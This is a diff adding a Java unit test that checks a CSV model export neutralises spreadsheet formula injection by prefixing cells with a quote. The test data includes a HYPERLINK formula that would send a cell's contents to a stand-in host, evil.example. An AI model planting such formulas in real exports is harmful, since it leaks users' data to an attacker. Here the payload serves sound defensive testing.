@@ -84,6 +84,34 @@ class ModelExportTest {
     }
 
     @Test
+    void cellsASpreadsheetWouldRunAreNeutralisedAndReadBackByDroppingOneQuote() throws IOException {
+        String value = unique("formula");
+        String name = "=HYPERLINK(\"https://evil.example/?d=\"&C2,\"Open\")";
+        String description = "'quoted already";
+        UUID profile = CatalogFixtures.profile(jdbc, changes, "openai", "+evil " + value);
+        UUID id = CatalogFixtures.id(CatalogFixtures.create(admin, """
+                {"name": %s, "description": %s, "value": "%s", "provider_ids": ["%s"]}
+                """.formatted(json(name), json(description), value, profile)), "model_id");
+
+        JsonNode exported = admin.post(MODELS + "export", "{\"model_id\": \"" + id + "\"}").json();
+        TestResponse file = admin.get("/api/v5/uploads/" + exported.get("upload_id").stringValue());
+
+        assertThat(file.body()).doesNotContain(",=HYPERLINK").doesNotContain(",+evil");
+        CSVRecord row = parse(file.body()).getFirst();
+        assertThat(row.get("name")).isEqualTo("'" + name);
+        assertThat(row.get("provider_profiles")).isEqualTo("'+evil " + value + " (openai)");
+        assertThat(row.get("description")).isEqualTo("''quoted already");
+        assertThat(stored(row.get("name"))).isEqualTo(name);
+        assertThat(stored(row.get("description"))).isEqualTo(description);
+        assertThat(stored(row.get("value"))).isEqualTo(value);
+    }
+
+    /** The documented way back to the stored value: one leading {@code '} dropped. */
+    private static String stored(String cell) {
+        return cell.startsWith("'") ? cell.substring(1) : cell;
+    }
+
+    @Test
     void exportsOneModelWhenAsked() throws IOException {
         UUID id = CatalogFixtures.createModel(admin, "Only me", unique("one"));
 
